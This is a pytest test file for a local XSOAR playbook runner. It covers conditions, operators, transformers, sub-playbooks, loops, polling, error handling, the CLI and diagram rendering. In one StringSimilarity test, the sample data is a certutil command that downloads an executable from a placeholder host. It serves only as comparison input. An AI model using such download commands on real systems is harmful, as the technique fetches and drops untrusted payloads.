"""The playbook runner's constructs: the task graph, conditions, complex arguments, sub-playbooks and loops, polling,
task errors, skipunavailable and the clear error for what it does not support. Commands run through the fixture
integration (in this process, for speed); waits go to a fake clock."""
from __future__ import annotations

import json
from pathlib import Path

import pytest
import yaml
from PIL import Image

from xsoar_local.cli import main as cli_main
from xsoar_local.commandline import read_examples
from xsoar_local.executors import InProcess
from xsoar_local.integrations import find_integration, repo_root
from xsoar_local.playbooks import PlaybookError, PlaybookLibrary, Session, diagram, load_playbook, run_playbook
from xsoar_local.playbooks.engine import check_playbook
from xsoar_local.playbooks.testgen import load_spec
from xsoar_local.playbooks.testgen import main as regenerate
from xsoar_local.playbooks.values import OPERATORS, evaluate
from xsoar_local.runner import RunOptions

FIXTURE = 'XSOARLocalFixture'


@pytest.fixture(autouse=True)
def local_home(tmp_path, monkeypatch):
    monkeypatch.setenv('XSOAR_LOCAL_HOME', str(tmp_path / 'home'))
    monkeypatch.setenv('XSOAR_LOCAL_TIME_SCALE', '1')
    return tmp_path / 'home'


# ---- building playbooks -----------------------------------------------------------------------------------------

def start(nxt):
    return {'type': 'start', 'task': {'name': ''}, 'nexttasks': {'#none#': [nxt]}}


def title(name='Done', nxt=None):
    return {'type': 'title', 'task': {'name': name, 'type': 'title'}, 'nexttasks': {'#none#': [nxt]} if nxt else {}}


def command(name, args=None, nxt=None, brand='XSOARLocalFixture', **extra):
    return {'type': 'regular', 'task': {'name': name, 'script': f'{brand}|||{name}', 'iscommand': True},
            'scriptarguments': {k: _spec(v) for k, v in (args or {}).items()},
            'nexttasks': {'#none#': [nxt]} if nxt else {}, **extra}


def script(name, args=None, nxt=None, **extra):
    return {'type': 'regular', 'task': {'name': name, 'scriptName': name},
            'scriptarguments': {k: _spec(v) for k, v in (args or {}).items()},
            'nexttasks': {'#none#': [nxt]} if nxt else {}, **extra}


def condition(name, groups, branches, **extra):
    return {'type': 'condition', 'task': {'name': name, 'type': 'condition'},
            'conditions': [{'label': label, 'condition': g} for label, g in groups],
            'nexttasks': {k: [v] for k, v in branches.items()}, **extra}


def sub(playbook, args=None, nxt=None, **extra):
    return {'type': 'playbook', 'task': {'name': playbook, 'playbookName': playbook, 'type': 'playbook'},
            'scriptarguments': {k: _spec(v) for k, v in (args or {}).items()},
            'nexttasks': {'#none#': [nxt]} if nxt else {}, **extra}


def _spec(value):
    return value if isinstance(value, dict) and ({'simple', 'complex'} & set(value)) else {'simple': value}


def is_(operator, left, right=None, left_context=True):
    spec = {'operator': operator, 'left': {'value': {'simple': left}, 'iscontext': left_context}}
    if right is not None:
        spec['right'] = {'value': {'simple': right}}
    return spec


class Book:
    """Playbooks written to files under tmp_path, runnable by name."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.paths: list[Path] = []
        self.slept: list[float] = []

    def add(self, name, tasks, inputs=None, outputs=None) -> Path:
        data = {'id': name, 'name': name, 'starttaskid': '0', 'inputs': inputs or [], 'outputs': outputs or [],
                'tasks': {str(k): {'id': str(k), **v} for k, v in tasks.items()}}
        path = self.folder / f'{name}.yml'
        path.write_text(yaml.safe_dump(data), encoding='utf-8')
        self.paths.append(path)
        return path

    def session(self, **kwargs) -> Session:
        return Session(options=RunOptions(executor=InProcess()), library=PlaybookLibrary(roots=[], extra=self.paths),
                       sleep=self.slept.append, **kwargs)

    def run(self, name, inputs=None, **kwargs):
        session = self.session(**kwargs)
        return run_playbook(session.library.resolve(name), session, inputs), session


@pytest.fixture
def book(tmp_path) -> Book:
    return Book(tmp_path)


def states(result) -> dict[str, str]:
    return {f'{r.playbook}#{r.task_id}': r.state for r in result.records}


# ---- the task graph, commands and built-in scripts -----------------------------------------------------------------

def test_commands_scripts_and_references(book):
    """Given Set, a command with ${} arguments and Print, When the playbook runs, Then the command's entry context is
    merged like the server's, references resolve (a whole reference keeps its type) and every task completes."""
    book.add('Linear', {
        0: start('1'),
        1: script('Set', {'key': 'Greeting.Text', 'value': 'hello'}, '2'),
        2: command('fixture-echo', {'message': '${Greeting.Text} world', 'count': '2'}, '3'),
        3: script('Print', {'value': 'ids: ${Fixture.Echo.id} for ${incident.name}'}, '4'),
        4: title(),
    })
    result, session = book.run('Linear')
    assert not result.failed
    assert result.context['Fixture']['Echo'] == [{'id': 1, 'message': 'hello world'},
                                                 {'id': 2, 'message': 'hello world'}]
    assert session.war_room[-1]['Contents'] == 'ids: 1,2 for xsoar-local playbook run'
    assert set(states(result).values()) == {'completed'}


def test_conditions_choose_one_branch_and_the_merge_waits(book):
    """Given a condition with two branches meeting again, When it runs, Then only the chosen branch runs and the
    merging task runs once, after it; with no label holding, #default# is taken."""
    book.add('Branches', {
        0: start('1'),
        1: script('Set', {'key': 'Level', 'value': '7'}, '2'),
        2: condition('High?', [('high', [[is_('greaterThan', 'Level', '5')]])], {'high': '3', '#default#': '4'}),
        3: script('Print', {'value': 'high'}, '5'),
        4: script('Print', {'value': 'low'}, '5'),
        5: script('Set', {'key': 'Merged', 'value': 'yes', 'append': 'true'}, '6'),
        6: title(),
    })
    result, session = book.run('Branches')
    assert [e['Contents'] for e in session.war_room if e['TaskID'] in ('3', '4')] == ['high']
    assert result.context['Merged'] == 'yes'
    assert 'Branches#4' not in states(result)
    book.add('Default', {
        0: start('1'),
        1: condition('Set?', [('yes', [[is_('isExists', 'Nothing.Here')]])], {'yes': '2', '#default#': '3'}),
        2: title('yes'), 3: title('no'),
    })
    result, _ = book.run('Default')
    assert [r.name for r in result.records if r.kind == 'title'] == ['no']


@pytest.mark.parametrize('operator, left, right, expected', [
    ('isEqualString', 'Active', 'active', False), ('isEqualString', ['a', 'b'], 'b', True),
    ('isNotEmpty', [], None, False), ('isNotEmpty', ['', 'x'], None, True), ('isEmpty', '', None, True),
    ('isExists', '', None, True), ('isNotExists', None, None, True),
    ('greaterThan', '10', '9', True), ('lessThanOrEqual', 3, '3', True), ('isEqualNumber', 'x', '1', False),
    ('containsGeneral', ['abc', 'd'], 'd', True), ('containsGeneral', 'abc', 'b', True),
    ('containsString', 'Isolate', 'sol', True), ('notContainsString', 'Isolate', 'sol', False),
    ('inList', 'b', 'a,b,c', True), ('notIn', 'z', ['a'], True), ('in', ['x', 'a'], ['a'], True),
    ('startWith', 'microsoft-atp', 'microsoft', True), ('endWith', 'file.exe', '.exe', True),
    ('match', 'CVE-2024-1234', r'^CVE-\d{4}-\d+$', True), ('isTrue', 'true', None, True),
    ('isFalse', True, None, False),
])
def test_operators(operator, left, right, expected):
    """Given each built-in operator, When it compares values (a list on the left: any item), Then as the server."""
    assert OPERATORS[operator](left, right, False) is expected


def test_operator_ignore_case():
    assert OPERATORS['isEqualString']('Active', 'active', True) is True


# ---- complex arguments ------------------------------------------------------------------------------------------

class Scope:
    def __init__(self, context):
        self.context = context

    def lookup(self, path):
        from xsoar_local.playbooks.values import read_path
        return read_path(self.context, path)


MACHINES = {'MicrosoftATP': {'Machine': [
    {'ID': 'm1', 'HealthStatus': 'Active', 'IPs': ['10.0.0.1', '10.0.0.2']},
    {'ID': 'm2', 'HealthStatus': 'Inactive', 'IPs': ['10.0.0.3']},
    {'ID': 'm3', 'HealthStatus': 'active', 'IPs': ['10.0.0.1']},
]}, 'Done': ['m3']}


@pytest.mark.parametrize('spec, expected', [
    ({'root': 'MicrosoftATP.Machine', 'accessor': 'ID',
      'filters': [[{'operator': 'isEqualString', 'ignorecase': True,
                    'left': {'value': {'simple': 'MicrosoftATP.Machine.HealthStatus'}, 'iscontext': True},
                    'right': {'value': {'simple': 'Active'}}}]]}, ['m1', 'm3']),
    ({'root': 'MicrosoftATP.Machine', 'accessor': 'ID',
      'filters': [[{'operator': 'notIn', 'left': {'value': {'simple': 'MicrosoftATP.Machine.ID'}, 'iscontext': True},
                    'right': {'value': {'simple': 'Done'}, 'iscontext': True}}]]}, ['m1', 'm2']),
    ({'root': 'MicrosoftATP.Machine', 'accessor': 'IPs',
      'transformers': [{'operator': 'uniq'}, {'operator': 'join', 'args': {'separator': {'value': {'simple': ';'}}}}]},
     '10.0.0.1;10.0.0.2;10.0.0.3'),
    ({'root': 'MicrosoftATP.Machine', 'accessor': 'ID', 'transformers': [{'operator': 'FirstArrayElement'},
                                                                         {'operator': 'toUpperCase'}]}, 'M1'),
    ({'root': 'MicrosoftATP.Machine', 'accessor': 'ID',
      'transformers': [{'operator': 'concat', 'args': {'prefix': {'value': {'simple': 'id:'}}, 'suffix': {}}}]},
     ['id:m1', 'id:m2', 'id:m3']),
    ({'root': 'Done', 'transformers': [{'operator': 'Stringify'}]}, '["m3"]'),
    ({'root': 'Done', 'transformers': [{'operator': 'append', 'args': {
        'item': {'value': {'simple': 'MicrosoftATP.Machine.ID'}, 'iscontext': True}}}, {'operator': 'count'}]}, 4),
])
def test_complex_arguments(spec, expected):
    """Given a complex argument (root, filters on root items, accessor, transformers), When evaluated, Then the value
    the server would pass."""
    assert evaluate({'complex': spec}, Scope(MACHINES)) == expected


def test_split_and_trim():
    spec = {'complex': {'root': 'Text', 'transformers': [{'operator': 'splitAndTrim', 'args': {
        'delimiter': {'value': {'simple': ','}}}}]}}
    assert evaluate(spec, Scope({'Text': ' a, b ,,c'})) == ['a', 'b', 'c']


def _mapped(value, inputs='Informational,Low,Medium,High', mapped='0.5, 1, 2, 3'):
    spec = {'complex': {'root': 'Severity', 'transformers': [{'operator': 'MapValuesTransformer', 'args': {
        'input_values': {'value': {'simple': 'Scale'}, 'iscontext': True},
        'mapped_values': {'value': {'simple': mapped}}}}]}}
    return evaluate(spec, Scope({'Severity': value, 'Scale': inputs}))


def test_map_values_transformer():
    """Given a value and two comma-separated lists, When MapValuesTransformer maps it, Then it gets the value at the
    same position, untrimmed as the server's script leaves it; a value not listed, and a list, stay as they are."""
    assert _mapped('Informational') == '0.5'
    assert _mapped('Medium') == ' 2'
    assert _mapped('UnSpecified') == 'UnSpecified'
    assert _mapped(['Low', 'High']) == ['Low', 'High']


def test_map_values_transformer_needs_lists_of_one_length():
    """Given lists of different lengths, or an object to map, Then the error names the transformer."""
    with pytest.raises(PlaybookError, match='MapValuesTransformer: input_values has 4 values and mapped_values 2'):
        _mapped('Low', mapped='1,2')
    with pytest.raises(PlaybookError, match='MapValuesTransformer: mapping an object'):
        _mapped({'a': 'b'})


# ---- sub-playbooks, inputs, outputs and loops -------------------------------------------------------------------

def _echo_child(book):
    return book.add('Echo Child', {
        0: start('1'),
        1: command('fixture-echo', {'message': '${inputs.Message}'}, '2'),
        2: script('Set', {'key': 'Scratch', 'value': 'private'}, '3'),
        3: title(),
    }, inputs=[{'key': 'Message', 'value': {'simple': '${Default.Message}'}, 'required': False}],
        outputs=[{'contextPath': 'Fixture.Echo.message'}])


def test_sub_playbook_separate_context_returns_only_its_outputs(book):
    """Given a sub-playbook with a separate context, When the parent runs it with an input, Then the declared
    outputs come back and its other context keys do not; an input not passed takes its default."""
    _echo_child(book)
    book.add('Parent', {
        0: start('1'),
        1: sub('Echo Child', {'Message': 'from parent'}, '2', separatecontext=True),
        2: script('Set', {'key': 'Default.Message', 'value': 'defaulted'}, '3'),
        3: sub('Echo Child', {}, '4', separatecontext=True),
        4: title(),
    })
    result, _ = book.run('Parent')
    assert not result.failed, result.error
    assert 'Scratch' not in result.context
    assert result.context['Fixture']['Echo'] == {'id': 1, 'message': 'defaulted'}


def test_sub_playbook_shared_context_and_unknown_input(book):
    """Given separatecontext false, Then the child writes the parent's context; an input the child does not declare
    is an error naming it."""
    _echo_child(book)
    book.add('Shared', {0: start('1'), 1: sub('Echo Child', {'Message': 'm'}, '2'), 2: title()})
    result, _ = book.run('Shared')
    assert result.context['Scratch'] == 'private'
    book.add('Wrong', {0: start('1'), 1: sub('Echo Child', {'Mesage': 'm'}, '2'), 2: title()})
    with pytest.raises(PlaybookError, match='Echo Child has no input named Mesage'):
        book.run('Wrong')


def test_for_each_loop_iterates_list_inputs(book):
    """Given a for-each loop over a list input, When it runs, Then one iteration per item, each seeing its item,
    waiting between iterations."""
    _echo_child(book)
    book.add('Each', {
        0: start('1'),
        1: script('Set', {'key': 'Messages', 'value': {'complex': {'root': 'inputs.Raw', 'transformers': [
            {'operator': 'split', 'args': {'delimiter': {'value': {'simple': ','}}}}]}}}, '2'),
        2: sub('Echo Child', {'Message': '${Messages}'}, '3', separatecontext=True,
               loop={'iscommand': False, 'exitCondition': '', 'wait': 2, 'max': 100, 'forEach': True}),
        3: title(),
    }, inputs=[{'key': 'Raw', 'value': {}}])
    result, session = book.run('Each', {'Raw': 'a,b,c'})
    assert not result.failed, result.error
    echo = [e for e in session.war_room if e.get("EntryContext")]
    assert [e['EntryContext'] for e in echo] == [
        {'Fixture.Echo(val.id && val.id == obj.id)': [{'id': 1, 'message': m}]} for m in 'abc']
    assert book.slept == [2, 2]    # waits between iterations, not after the last


def test_exit_condition_loop_stops_when_it_holds_or_at_max(book):
    """Given a loop with a built-in exit condition, When it runs, Then the sub-playbook repeats until the condition
    holds (waiting between runs), and stops at max iterations when it never does."""
    book.add('Count', {0: start('1'), 1: script('Set', {'key': 'Ticks', 'value': 'x', 'append': 'true'}, '2'),
                       2: title()})
    until = [[{'operator': 'isEqualNumber', 'left': {'value': {'complex': {
        'root': 'Ticks', 'transformers': [{'operator': 'count'}]}}, 'iscontext': True},
        'right': {'value': {'simple': '3'}}}]]
    book.add('Until', {0: start('1'), 1: sub('Count', {}, '2', loop={'builtincondition': until, 'max': 10,
                                                                     'wait': 5}), 2: title()})
    result, _ = book.run('Until')
    assert result.context['Ticks'] == ['x', 'x', 'x']
    assert book.slept == [5, 5]
    never = [[is_('isExists', 'Never')]]
    book.add('Capped', {0: start('1'), 1: sub('Count', {}, '2', loop={'builtincondition': never, 'max': 4,
                                                                      'wait': 1}), 2: title()})
    result, _ = book.run('Capped')
    assert len(result.context['Ticks']) == 4
    assert 'did not hold after 4 iterations' in result.records[1].detail


# ---- polling, errors, skipunavailable -------------------------------------------------------------------------

def test_polling_command_is_rerun_until_done(book):
    """Given a command that schedules itself, When the task runs, Then it is rerun after NextRun seconds (on the
    session's clock) until done, every round's entries in the war room, the final context merged."""
    book.add('Poll', {0: start('1'), 1: command('fixture-poll', {'rounds': '3'}, '2'), 2: title()})
    result, session = book.run('Poll')
    assert not result.failed, result.error
    assert book.slept == [10, 10]
    assert result.context['Fixture']['Poll'] == {'rounds': 3, 'done': True}
    assert [e['HumanReadable'] for e in session.war_room][:2] == ['Round 1 of 3: still running.',
                                                                 'Round 2 of 3: still running.']


def test_failed_task_stops_the_playbook_and_its_parents(book):
    """Given a failing command without continueonerror, When it runs (in a sub-playbook), Then the run fails naming
    the task and nothing after it runs, in the child or the parent."""
    book.add('Failing', {0: start('1'), 1: command('fixture-fail', {'reason': 'boom'}, '2'),
                         2: script('Print', {'value': 'after'}), })
    book.add('Top', {0: start('1'), 1: sub('Failing', {}, '2'), 2: script('Print', {'value': 'parent after'})})
    result, session = book.run('Top')
    assert result.failed
    assert 'task 1 "fixture-fail" failed' in result.error and 'Asked to fail: boom' in result.error
    assert not [e for e in session.war_room if e.get('Contents') in ('after', 'parent after')]
    assert states(result)['Failing#1'] == 'error' and states(result)['Top#1'] == 'error'


def test_continue_on_error_and_error_path(book):
    """Given continueonerror, Then the run goes on along #none#; with continueonerrortype errorPath it takes
    #error#; isError on ${lastCompletedTaskEntries} sees the failure."""
    book.add('Continue', {
        0: start('1'),
        1: command('fixture-fail', {}, '2', continueonerror=True),
        2: {'type': 'condition', 'task': {'name': 'isError', 'scriptName': 'isError'},
            'scriptarguments': {'entryId': {'simple': '${lastCompletedTaskEntries}'}},
            'nexttasks': {'yes': ['3'], '#default#': ['4']}},
        3: title('saw the error'), 4: title('no error'),
    })
    result, _ = book.run('Continue')
    assert not result.failed
    assert states(result)['Continue#1'] == 'error-continued'
    assert [r.name for r in result.records if r.kind == 'title'] == ['saw the error']
    book.add('ErrorPath', {
        0: start('1'),
        1: {**command('fixture-fail'), 'continueonerror': True, 'continueonerrortype': 'errorPath',
            'nexttasks': {'#none#': ['2'], '#error#': ['3']}},
        2: title('normal'), 3: title('error path'),
    })
    result, _ = book.run('ErrorPath')
    assert [r.name for r in result.records if r.kind == 'title'] == ['error path']


def test_skip_unavailable(book):
    """Given tasks on an integration, script and sub-playbook that do not exist, When skipunavailable is set, Then
    each is skipped (saying why) and the run goes on; without it the run stops naming what is missing."""
    book.add('Skips', {
        0: start('1'),
        1: command('nothing-here', brand='NoSuchBrand', nxt='2', skipunavailable=True),
        2: script('NoSuchScript', nxt='3', skipunavailable=True),
        3: sub('No Such Playbook', nxt='4', skipunavailable=True),
        4: {'type': 'condition', 'task': {'name': 'available?', 'scriptName': 'IsIntegrationAvailable'},
            'scriptarguments': {'brandname': {'simple': 'XSOARLocalFixture'}},
            'nexttasks': {'yes': ['5'], '#default#': ['6']}},
        5: title('available'), 6: title('missing'),
    })
    result, _ = book.run('Skips')
    assert not result.failed
    assert [r.state for r in result.records[1:4]] == ['skipped'] * 3
    assert 'NoSuchBrand' in result.records[1].detail
    assert [r.name for r in result.records if r.kind == 'title'] == ['available']
    book.add('NoSkip', {0: start('1'), 1: script('NoSuchScript')})
    with pytest.raises(PlaybookError, match='the script "NoSuchScript" is not available'):
        book.run('NoSkip')


# ---- unsupported constructs -------------------------------------------------------------------------------------

@pytest.mark.parametrize('task, message', [
    ({'type': 'collection', 'task': {'name': 'Ask'}}, 'task type "collection" is not supported'),
    ({'type': 'regular', 'task': {'name': 'Manual'}}, 'a manual task'),
    ({'type': 'condition', 'task': {'name': 'Analyst decides'}, 'nexttasks': {}}, 'a manual condition'),
    (condition('Op', [('yes', [[is_('isSomething', 'A')]])], {}), 'operator "isSomething" is not supported'),
    (script('Set', {'key': 'K', 'value': {'complex': {'root': 'A', 'transformers': [{'operator': 'Base64Encode'}]}}}),
     'transformer "Base64Encode" is not supported'),
    ({**script('Print', {'value': 'x'}), 'loop': {'forEach': True}}, 'a loop on a regular task'),
    ({**script('Print', {'value': 'x'}), 'timertriggers': [{'fieldname': 'sla', 'action': 'start'}]},
     '"timertriggers" is not supported'),
    ({**script('Print', {'value': 'x'}), 'somethingnew': {'a': 1}}, 'task setting "somethingnew"'),
])
def test_unsupported_constructs_fail_before_anything_runs(book, task, message):
    """Given a playbook with a construct xsoar-local does not support, When it is run, Then a PlaybookError names
    the construct and no task ran."""
    book.add('Unsupported', {0: start('1'), 1: script('Set', {'key': 'Ran', 'value': 'yes'}, '2'), 2: task})
    session = book.session()
    with pytest.raises(PlaybookError, match=message):
        run_playbook(session.library.resolve('Unsupported'), session)
    assert session.records == []


def test_dt_selector_is_a_clear_error(book):
    book.add('DT', {0: start('1'), 1: script('Print', {'value': '${Fixture.Echo(val.id == 1).message}'})})
    with pytest.raises(PlaybookError, match='DT selector'):
        book.run('DT')


# ---- CLI --------------------------------------------------------------------------------------------------------

def test_cli_runs_a_playbook_file(book, capfd):
    """Given the CLI, When a playbook completes, fails, or is unsupported, Then exit 0, 1 and 3; each task is printed
    with its state."""
    ok = book.add('CLI ok', {0: start('1'), 1: command('fixture-echo', {'message': '${inputs.Text}'}, '2'),
                             2: title()}, inputs=[{'key': 'Text', 'value': {}}])
    assert cli_main(['playbook', 'run', str(ok), '--input', 'Text=hi', '--source']) == 0
    out, _ = capfd.readouterr()
    assert 'completed' in out and '#1 fixture-echo (regular)' in out
    assert cli_main(['playbook', 'run', str(ok), '--input', 'Text=hi', '--json']) == 0
    payload = json.loads(capfd.readouterr()[0])
    assert payload['context']['Fixture']['Echo'] == {'id': 1, 'message': 'hi'}
    failing = book.add('CLI fail', {0: start('1'), 1: command('fixture-fail')})
    assert cli_main(['playbook', 'run', str(failing)]) == 1
    assert 'failed' in capfd.readouterr()[0]
    unsupported = book.add('CLI unsupported', {0: start('1'), 1: {'type': 'collection', 'task': {'name': 'x'}}})
    assert cli_main(['playbook', 'run', str(unsupported)]) == 3
    assert 'collection' in capfd.readouterr()[0]


# ---- the packs' test playbooks ----------------------------------------------------------------------------------

def test_generated_test_playbooks_are_up_to_date():
    """Given test_playbooks.yml and the command examples, Then the packs' generated test playbooks match them."""
    assert regenerate(['--check']) == 0


# Commands no test playbook runs, with the reason.
NOT_IN_TEST_PLAYBOOKS = {
    'update-remote-system': 'called by the server with the incident delta as objects; a playbook can only pass text',
}


def test_every_command_is_in_a_test_playbook():
    """Given the packs' test playbooks, Then every command of every integration is run by one of them (or listed
    with a reason), and every test playbook loads and passes the runner's checks."""
    run: set[str] = set()
    library = PlaybookLibrary()
    for path in sorted(repo_root().glob('Packs/*/TestPlaybooks/*.yml')):
        playbook = load_playbook(path)
        check_playbook(playbook, library)
        run |= {str(t.get('task', {}).get('script', '')).partition('|||')[2] for t in playbook.tasks.values()}
    for entry in {e['integration'] for e in load_spec()}:
        integration = find_integration(entry)
        missing = set(integration.commands) - run - set(NOT_IN_TEST_PLAYBOOKS)
        assert missing == set(), (entry, sorted(missing))
        assert read_examples(integration.directory)


def test_builtin_scripts_and_server_commands(book):
    """Given Set (replace, append, stringify), SetAndHandleEmpty, DeleteContext, setIncident and closeInvestigation,
    Then the context and incident change as on the server; a missing required argument is an error entry."""
    book.add('Builtins', {
        0: start('1'),
        1: script('Set', {'key': 'A.List', 'value': 'one'}, '2'),
        2: script('Set', {'key': 'A.List', 'value': 'two', 'append': 'true'}, '3'),
        3: script('Set', {'key': 'A.Json', 'value': {'complex': {'root': 'A.List'}}, 'stringify': 'true'}, '4'),
        4: script('SetAndHandleEmpty', {'key': 'A.Json', 'value': '${Nothing}'}, '5'),
        5: script('Set', {'key': 'B', 'value': 'gone'}, '6'),
        6: script('DeleteContext', {'key': 'B'}, '7'),
        7: {**command('setIncident', {'severity': '3', 'mdedeviceid': 'm1'}), 'task': {
            'name': 'setIncident', 'script': 'Builtin|||setIncident', 'iscommand': True}, 'nexttasks': {'#none#': ['8']}},
        8: {**command('closeInvestigation', {'closeReason': 'Resolved'}, brand=''), 'nexttasks': {'#none#': ['9']}},
        9: script('Set', {}, continueonerror=True),
    })
    result, session = book.run('Builtins')
    assert result.context == {'A': {'List': ['one', 'two'], 'Json': '["one", "two"]'}}
    assert result.incident['severity'] == '3' and result.incident['CustomFields']['mdedeviceid'] == 'm1'
    assert result.incident['status'] == 2 and result.incident['closeReason'] == 'Resolved'
    assert session.war_room[-1]['Contents'] == 'Set: the argument "key" is required.'


def test_string_similarity_and_appended_tags(book):
    """Given StringSimilarity over a list of texts and a list of expected ones, and setIncident adding tags twice
    with appendTags, Then only the pairs at or above the threshold reach the context (the script's misspelt
    threshold argument works too), and the incident keeps every tag once; without appendTags the tags are replaced.
    A threshold that is not a number is an error entry."""
    found = ['certutil -urlcache -f http://a.example/x.exe x.exe', 'certutil -hashfile report.txt']
    book.add('Similarity', {
        0: start('7'),
        7: script('Set', {'key': 'Found', 'value': found[0]}, '8'),
        8: script('Set', {'key': 'Found', 'value': found[1], 'append': 'true'}, '1'),
        1: script('StringSimilarity', {'string_A': {'complex': {'root': 'Found'}},
                                       'string_B': 'certutil -urlcache -f http://b.example/y.exe y.exe',
                                       'similarity_threshold': '0.6'}, '2'),
        2: script('StringSimilarity', {'string_A': 'abc', 'string_B': 'xyz', 'similiarity_threshold': '0.9'}, '3'),
        3: {**command('setIncident', {'tags': 'One, Two', 'appendTags': 'true'}, brand=''),
            'nexttasks': {'#none#': ['4']}},
        4: {**command('setIncident', {'tags': 'Two', 'appendTags': 'true'}, brand=''), 'nexttasks': {'#none#': ['5']}},
        5: {**command('setIncident', {'tags': 'Three', 'appendTags': 'true'}, brand=''),
            'nexttasks': {'#none#': ['6']}},
        6: script('StringSimilarity', {'string_A': 'a', 'string_B': 'b', 'similarity_threshold': 'high'},
                  continueonerror=True),
    })
    result, session = book.run('Similarity')
    [pair] = result.context['StringSimilarity'] if isinstance(result.context['StringSimilarity'], list) else [
        result.context['StringSimilarity']]
    assert pair['StringA'] == found[0] and pair['SimilarityScore'] >= 0.6
    assert result.incident['tags'] == ['One', 'Two', 'Three'] and 'appendTags' not in result.incident
    assert 'not a number' in session.war_room[-1]['Contents']
    book.add('Replace', {0: start('1'), 1: command('setIncident', {'tags': 'Only'}, brand='')})
    result, _ = book.run('Replace', incident={'id': '1', 'name': 'x', 'tags': ['Old']})
    assert result.incident['tags'] == 'Only'


def test_indicator_query_inputs_are_refused(book):
    book.add('Indicators', {0: start('1'), 1: title()},
             inputs=[{'key': '', 'value': {}, 'playbookInputQuery': {'query': 'type:File', 'queryEntity': 'indicators'}}])
    with pytest.raises(PlaybookError, match='playbookInputQuery'):
        book.run('Indicators')


# ---- playbook images --------------------------------------------------------------------------------------------

def _pack_playbooks() -> list:
    return [p for p in PlaybookLibrary().all() if p.path.parent.name == 'Playbooks']


def test_diagram_draws_a_box_per_task_and_routes_skipping_arrows_round_the_column():
    """Given a playbook whose condition skips tasks in the same column, Then every task has a box at its stored
    position and the skipping arrow gets a lane right of the boxes (the image is wider than the boxes)."""
    book = next(p for p in _pack_playbooks() if p.id == 'MDE - True Positive Incident Handling')
    boxes = diagram.layout(book.data)
    assert {b.task_id for b in boxes} == set(book.tasks)
    assert min(b.x for b in boxes) == diagram.MARGIN and min(b.y for b in boxes) == diagram.MARGIN
    image = diagram.render(book.data)
    assert image.width > max(b.right for b in boxes) + diagram.MARGIN


def test_pack_playbook_images_are_drawn_from_the_current_yaml():
    """Given every pack playbook, Then its doc_files image (the one its README links and demisto-sdk RM116 requires)
    shows what the renderer draws from the YAML today (`xsoar-local playbook image` after a change)."""
    stale = []
    for book in _pack_playbooks():
        with Image.open(diagram.image_path(book.path)) as shipped:
            drawn = diagram.render(book.data)
            if shipped.size != drawn.size or shipped.convert('RGB').tobytes() != drawn.tobytes():
                stale.append(book.id)
    assert not stale, f'run `xsoar-local playbook image`: {stale}'


def test_playbook_image_command_writes_one_png(tmp_path, capfd):
    """Given `xsoar-local playbook image <id> --output FILE`, Then FILE is the PNG of that playbook; two playbooks with
    one --output is a usage error."""
    target = tmp_path / 'check.png'
    assert cli_main(['playbook', 'image', 'MDE - Check Machine Action', '--output', str(target)]) == 0
    assert target.read_bytes()[:8] == b'\x89PNG\r\n\x1a\n'
    assert cli_main(['playbook', 'image', 'MDE - Block File', 'MDE - Check Machine Action', '--output',
                     str(target)]) == 64
    assert "--output takes exactly one playbook" in capfd.readouterr().out
